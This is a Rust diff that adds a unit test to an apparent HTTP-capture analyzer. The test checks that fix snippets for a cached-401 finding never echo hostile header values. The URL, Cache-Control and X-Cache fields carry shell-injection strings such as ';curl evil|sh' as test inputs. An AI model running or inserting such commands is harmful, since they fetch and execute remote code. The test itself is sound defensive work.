@@ -266,3 +266,37 @@ fn waf_block_masquerading(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
             .confidence(85),
     );
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::correlate::Correlation;
+    use crate::model::{Capture, Exchange, Header, Headers};
+    use std::borrow::Cow;
+
+    /// The cache snippets hold no capture value, so hostile cache headers cannot reach them.
+    #[test]
+    fn hostile_cache_headers_stay_out_of_the_snippets() {
+        let hostile = "HIT';curl evil|sh;echo '\"$host";
+        let ex = Exchange {
+            method: Cow::Borrowed("GET"),
+            url: Cow::Borrowed("https://api.example.net/v1/me?x=';curl evil|sh"),
+            status: 401,
+            response_headers: Headers(vec![
+                Header::new("Cache-Control", "public, max-age=600, x=\"';curl evil|sh\""),
+                Header::new("X-Cache", hostile),
+                Header::new("Age", "30"),
+            ]),
+            ..Default::default()
+        };
+        let cap = Capture { exchanges: vec![ex], ..Default::default() };
+        let corr = Correlation::build(&cap);
+        let ctx = Ctx::new(&cap, &corr, 0, &cap.exchanges[0]);
+        let mut out = Vec::new();
+        check(&ctx, &mut out);
+        assert!(out.iter().any(|f| f.id == FindingId::Cached401Served), "{out:?}");
+        for s in out.iter().flat_map(|f| &f.fix.snippets) {
+            assert!(!s.code.contains("evil"), "{}", s.code);
+        }
+    }
+}
